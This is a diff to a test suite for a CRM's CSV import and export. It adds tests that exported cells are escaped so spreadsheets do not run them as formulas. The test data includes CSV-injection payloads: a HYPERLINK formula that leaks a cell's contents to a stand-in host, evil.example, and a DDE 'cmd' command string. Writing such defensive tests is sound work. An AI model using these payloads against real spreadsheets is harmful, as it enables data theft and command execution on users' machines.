@@ -45,8 +45,8 @@ async def owned(api, kind: str, owner: str) -> int:
 
 
 class TestPartnersCsv:
-    async def test_bad_rows_are_reported_by_number_and_nothing_is_stored(self, api):
-        owner = unique("owner-")
+    async def test_bad_rows_are_reported_by_number_and_nothing_is_stored(self, api, new_owner):
+        owner, _ = await new_owner()
         taken = (await api.post("/api/partners", json={"name": unique("Taken "), "type": "isv"})).json()["name"]
         text = to_csv([
             ["Name", "Type", "Tier", "Owner", "Strategic fit", "Revenue potential", "Feasibility", "Risk"],
@@ -69,8 +69,8 @@ class TestPartnersCsv:
         assert response.json()["result"]["stored"] is False
         assert await owned(api, "partners", owner) == 0
 
-    async def test_a_good_file_is_stored_and_an_export_imports_again(self, api):
-        owner = unique("owner-")
+    async def test_a_good_file_is_stored_and_an_export_imports_again(self, api, new_owner):
+        owner, _ = await new_owner()  # files name owners by email
         names = [unique("Csv ") for _ in range(3)]
         text = to_csv([["name", "type", "status", "owner", "tier"], [names[0], "ISV", "Active", owner, ""],
                        [names[1], "co-sell", "onboarding", owner, "Gold"], [names[2], "MSP", "prospect", owner, ""]])
@@ -100,8 +100,8 @@ class TestPartnersCsv:
 
 
 class TestOpportunitiesCsv:
-    async def test_a_large_file_with_one_bad_row_stores_nothing(self, api):
-        owner = unique("owner-")
+    async def test_a_large_file_with_one_bad_row_stores_nothing(self, api, new_owner):
+        owner, _ = await new_owner()
         partner = (await api.post("/api/partners", json={"name": unique("Csv ISV "), "type": "isv"})).json()
         rows = [["name", "customer", "partner", "amount", "currency", "expected_close_date", "owner", "stage"]]
         for i in range(1200):
@@ -116,6 +116,11 @@ class TestOpportunitiesCsv:
         assert found == {(1150, "expected_close_date"), (3, "partner"), (700, "stage")}
         assert await owned(api, "opportunities", owner) == 0
 
+        stranger = [*rows[5][:6], "nobody@nowhere.test", rows[5][7]]
+        refused = await upload(api, "opportunities", to_csv([rows[0], stranger]))
+        assert refused.status_code == 422
+        assert [(d["loc"][2], d["loc"][3]) for d in refused.json()["detail"]] == [(2, "owner")]
+
         rows[1149][5], rows[2][2], rows[699][7] = "2026-12-01", partner["name"], "negotiation"
         response = await upload(api, "opportunities", to_csv(rows))
         assert response.status_code == 200, response.text
@@ -127,8 +132,9 @@ class TestOpportunitiesCsv:
         detail = (await api.get(f"/api/opportunities/{top['items'][0]['id']}")).json()
         assert detail["source"] == "import" and detail["stage_history"][0]["changed_by"] == "token:pipeline-tests"
 
-    async def test_the_cli_imports_with_progress_and_exports(self, api, pipeline_nats, tmp_path):
-        owner = unique("owner-")
+    async def test_the_cli_imports_with_progress_and_exports(self, api, pipeline_nats, tmp_path, new_owner):
+        # The CLI talks to the pipeline directly: it stores and exports owners as user ids.
+        _, owner = await new_owner()
         good = tmp_path / "deals.csv"
         good.write_text(to_csv([["name", "customer", "amount", "owner", "deal_model", "stage"],
                                 ["CLI deal", "Cust", "99.95", owner, "co-sell", "Technical Validation"]]))
@@ -150,3 +156,78 @@ class TestOpportunitiesCsv:
         exported = list(csv.DictReader(target.open()))
         mine = [r for r in exported if r["owner"] == owner]
         assert len(mine) == 1 and mine[0]["stage"] == "technical_validation" and mine[0]["pipeline"] == "cosell"
+
+
+# Every prefix a spreadsheet runs as a formula, and text that already looks escaped.
+FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Open")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(A1:A9)", "\tTabbed", "\rReturned", "'=already quoted", "''+twice")
+
+
+def _no_formula(rows: list[list[str]]) -> None:
+    for row in rows:
+        for cell in row:
+            assert cell[:1] not in ("=", "+", "@", "\t", "\r") and not (cell[:1] == "-" and not _number(cell)), cell
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+class TestFormulaSafeCsv:
+    async def test_partners_with_formula_names_export_as_text_and_import_back_unchanged(self, api, new_owner):
+        owner, _ = await new_owner()
+        for f in FORMULAS:
+            r = await api.post("/api/partners", json={"name": f"{f} {unique('')}", "type": "isv", "owner": owner})
+            assert r.status_code == 201, r.text
+        # As stored (surrounding whitespace is trimmed on the way in, so "\tTabbed" is stored "Tabbed").
+        listing = await api.get("/api/partners", params={"owner": owner, "limit": 50})
+        names = [p["name"] for p in listing.json()["items"]]
+        assert len(names) == len(FORMULAS)
+        export = await api.get("/api/partners/export.csv")
+        rows = list(csv.reader(io.StringIO(export.text, newline="")))
+        mine = [rows[0]] + [r for r in rows[1:] if r[rows[0].index("owner")] == owner]
+        assert len(mine) == 1 + len(names)
+        _no_formula(mine)
+        exported = {r[rows[0].index("name")] for r in mine[1:]}
+        assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")' in {n.rsplit(" ", 1)[0] for n in exported}
+        again = await upload(api, "partners", to_csv(mine))
+        assert again.status_code == 200, again.text
+        assert (again.json()["created"], again.json()["updated"]) == (0, len(names))
+        listed = (await api.get("/api/partners", params={"owner": owner, "limit": 50})).json()["items"]
+        assert sorted(p["name"] for p in listed) == sorted(names)
+
+    async def test_opportunities_with_formula_text_export_as_text_and_import_back_unchanged(self, api, new_owner):
+        owner, _ = await new_owner()
+        made = []
+        for f in FORMULAS:
+            r = await api.post("/api/opportunities", json={"name": f"{f} deal", "customer": f, "amount": "1200.50",
+                                                           "owner": owner})
+            assert r.status_code == 201, r.text
+            made.append(r.json())
+        export = await api.get("/api/opportunities/export.csv")
+        rows = list(csv.reader(io.StringIO(export.text, newline="")))
+        header = rows[0]
+        mine = [header] + [r for r in rows[1:] if r[header.index("owner")] == owner]
+        assert len(mine) == 1 + len(FORMULAS)
+        _no_formula(mine)
+        again = await upload(api, "opportunities", to_csv(mine))
+        assert again.status_code == 200, again.text
+        assert (again.json()["created"], again.json()["updated"]) == (0, len(FORMULAS))
+        customers = {r[header.index("customer")] for r in mine[1:]}
+        assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"Open")' in customers
+        for before in made:
+            after = (await api.get(f"/api/opportunities/{before['id']}")).json()
+            assert (after["name"], after["customer"], after["amount"]) == (before["name"], before["customer"],
+                                                                           before["amount"])
+
+    def test_the_shared_helper_round_trips_every_string(self):
+        from runtime.csv_cells import safe, unsafe
+
+        for text in (*FORMULAS, "", "'", "-", "-12.50", "+7", "1e5", "plain", "'-5", "=", "@"):
+            assert unsafe(safe(text)) == text, text
+            assert safe(text)[:1] not in ("=", "+", "@", "\t", "\r") or _number(safe(text)), text
+        assert safe("-12.50") == "-12.50" and safe(None) == ""
